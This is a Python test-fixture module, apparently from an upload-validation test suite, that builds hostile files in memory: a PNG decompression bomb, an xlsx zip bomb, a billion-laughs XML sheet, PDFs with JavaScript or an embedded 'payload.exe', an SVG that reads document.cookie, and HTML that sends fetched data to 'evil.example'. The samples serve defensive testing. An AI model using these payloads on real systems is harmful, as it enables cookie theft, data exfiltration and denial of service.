"""Files for upload tests, good and hostile, made here from their formats (nothing downloaded).

Each hostile builder makes the smallest file that shows one attack: a decompression bomb, a zip
bomb, a sheet that claims a million rows, a PDF that runs JavaScript…
"""

import io
import struct
import zipfile
import zlib

import openpyxl

from tests.accreditation.helpers import photo_bytes as image_bytes  # noqa: F401


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return (struct.pack(">I", len(body)) + kind + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF))


def png_bomb(width=60_000, height=60_000) -> bytes:
    """A valid PNG header for a huge greyscale image, with a few KB of compressed rows: decoding it
    would take width × height bytes (3.6 GB here)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    rows = zlib.compress(b"\0" * (width + 1) * 16, 9)  # the first rows only; enough to start
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", rows)
            + _png_chunk(b"IEND", b""))


SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="300" '
       b'height="380"><script>alert(document.cookie)</script><rect width="300" height="380"/>'
       b'</svg>')
HTML = (b"<!DOCTYPE html>\n<html><head><title>Note verbale</title></head><body><script>"
        b"fetch('/api/').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)"
        b"</script></body></html>")


# --- PDF ------------------------------------------------------------------------------------

def pdf_bytes(pages: int = 1, *, javascript: str | None = None, attachment: bytes | None = None,
              user_password: str | None = None, owner_password: str = "owner") -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)  # A4
    if javascript:
        from pypdf.actions import JavaScript

        writer.add_open_action(JavaScript(javascript))
    if attachment is not None:
        writer.add_attachment("payload.exe", attachment)
    if user_password is not None:
        writer.encrypt(user_password=user_password, owner_password=owner_password,
                       algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def handmade_pdf(*objects: str) -> bytes:
    """A PDF from object bodies (object 1 is the catalogue), with a correct cross-reference
    table: for what pypdf's writer will not make, such as an obfuscated name."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
            .encode())
    return bytes(out)


PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


# --- Spreadsheets ---------------------------------------------------------------------------

def xlsx_bytes(rows) -> bytes:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewrite_zip(data: bytes, change=None, add=()) -> bytes:
    """The archive with each part passed through change(name, bytes) and parts added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info.filename)
            target.writestr(info.filename, change(info.filename, body) if change else body)
        for name, body in add:
            target.writestr(name, body)
    return out.getvalue()


def xlsx_with_sheet_xml(change) -> bytes:
    """A small nomination sheet whose worksheet XML is passed through change(text)."""
    def edit(name, body):
        return change(body.decode()).encode() if name == "xl/worksheets/sheet1.xml" else body

    return rewrite_zip(xlsx_bytes([["family_name"], ["Nguyen"]]), edit)


def xlsx_zip_bomb(unpacked_mb: int = 20) -> bytes:
    """A real workbook with one more part of zeros: 20 MB that pack to about 20 KB."""
    return rewrite_zip(xlsx_bytes([["family_name"], ["Nguyen"]]),
                       add=[("xl/media/image1.png", b"\0" * unpacked_mb * 1024 * 1024)])


def xlsx_billion_laughs() -> bytes:
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return xlsx_with_sheet_xml(lambda xml: xml.replace(
        "<worksheet", f"<!DOCTYPE worksheet [{entities}]><worksheet", 1).replace(
        "<t>Nguyen</t>", "<t>&l9;</t>"))
